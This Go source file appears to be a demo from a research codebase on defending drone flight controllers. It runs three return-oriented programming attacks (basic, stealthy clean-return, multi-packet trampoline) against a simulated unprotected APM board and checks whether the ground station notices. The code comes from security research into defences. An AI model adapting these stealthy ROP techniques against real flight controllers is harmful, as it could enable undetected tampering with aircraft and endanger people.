// Stealthy attack demo (paper §IV): run the three ROP attack
// generations against an unprotected APM board and show what the ground
// station observes, including the Fig. 6 stack progression of the
// stealthy V2 attack.
package main

import (
	"fmt"
	"log"
	"time"

	"mavr/internal/attack"
	"mavr/internal/board"
	"mavr/internal/firmware"
	"mavr/internal/gadget"
	"mavr/internal/gcs"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		return err
	}
	// The attacker analyzes the binary they have (threat model §IV-A).
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		return err
	}
	fmt.Printf("attacker analysis of the unprotected binary:\n")
	fmt.Printf("  %d ret-gadgets; stk_move at byte 0x%X (pops %v);\n",
		len(gadget.Scan(img.ELF.Text, gadget.Window)), a.StkMove.Addr*2, a.StkMove.PopRegs)
	fmt.Printf("  write_mem at byte 0x%X (stores r%d,r%d,r%d; %d-register pop chain)\n",
		a.WriteMem.StoreAddr*2, a.WriteMem.StoreRegs[0], a.WriteMem.StoreRegs[1],
		a.WriteMem.StoreRegs[2], len(a.WriteMem.PopRegs))
	fmt.Printf("  vulnerable buffer at 0x%04X, frame %dB, handler returns to 0x%X\n\n",
		a.BufAddr, a.FrameBytes, a.OrigRet*2)

	newVictim := func() (*gcs.GroundStation, error) {
		sys := board.NewSystem(board.SystemConfig{Unprotected: true})
		if err := sys.FlashFirmware(img); err != nil {
			return nil, err
		}
		if _, err := sys.Boot(); err != nil {
			return nil, err
		}
		g := gcs.NewGroundStation(sys)
		return g, g.Fly(100 * time.Millisecond)
	}
	report := func(name string, g *gcs.GroundStation) {
		cfg := g.Sys.App.CPU.Data[firmware.AddrGyroCfg]
		detected := g.Mon.CompromiseDetected(200 * time.Millisecond)
		fmt.Printf("%s: gyro-config=0x%02X, board-faulted=%v, GCS-detected=%v (pulses=%d gaps=%d silence=%v)\n",
			name, cfg, g.Sys.LastFault() != nil, detected,
			g.Mon.Pulses, g.Mon.SeqGaps, g.Mon.MaxSilence.Round(time.Millisecond))
	}

	// --- V1: classic ROP, smashes the stack.
	g, err := newVictim()
	if err != nil {
		return err
	}
	p1, err := attack.BuildV1(a, attack.GyroCfgWrite(0x7F))
	if err != nil {
		return err
	}
	g.SendFrame(attack.Frame(p1))
	if err := g.Fly(600 * time.Millisecond); err != nil {
		return err
	}
	report("V1 (basic ROP)     ", g)

	// --- V2: stealthy clean return.
	g, err = newVictim()
	if err != nil {
		return err
	}
	p2, err := attack.BuildV2(a, attack.GyroCfgWrite(0x7F))
	if err != nil {
		return err
	}
	g.SendFrame(attack.Frame(p2))
	if err := g.Fly(600 * time.Millisecond); err != nil {
		return err
	}
	report("V2 (stealthy)      ", g)

	// --- V3: trampoline, arbitrarily large payload.
	g, err = newVictim()
	if err != nil {
		return err
	}
	var big []attack.Write
	for i := 0; i < 16; i++ {
		big = append(big, attack.Write{Addr: 0x1800 + uint16(3*i), Vals: [3]byte{0xDE, 0xAD, byte(i)}})
	}
	packets, err := attack.BuildV3(a, big, firmware.AddrFreeMem)
	if err != nil {
		return err
	}
	fmt.Printf("\nV3: staging a %d-byte chain via %d stealthy packets...\n",
		attack.StagedChainLen(a, len(big)), len(packets))
	for _, p := range packets {
		g.SendFrame(attack.Frame(p))
		if err := g.Fly(60 * time.Millisecond); err != nil {
			return err
		}
	}
	if err := g.Fly(300 * time.Millisecond); err != nil {
		return err
	}
	report("V3 (trampoline)    ", g)
	fmt.Printf("    staged 48-byte rogue block at 0x1800: % X ...\n",
		g.Sys.App.CPU.Data[0x1800:0x1806])

	// --- Fig. 6: stack progression during the stealthy attack.
	fmt.Printf("\nFig. 6 — stack progression during the V2 attack:\n\n")
	snaps, err := attack.TraceV2(a, img.Flash, attack.GyroCfgWrite(0x7F))
	if err != nil {
		return err
	}
	for _, s := range snaps {
		fmt.Println(s)
	}
	return nil
}
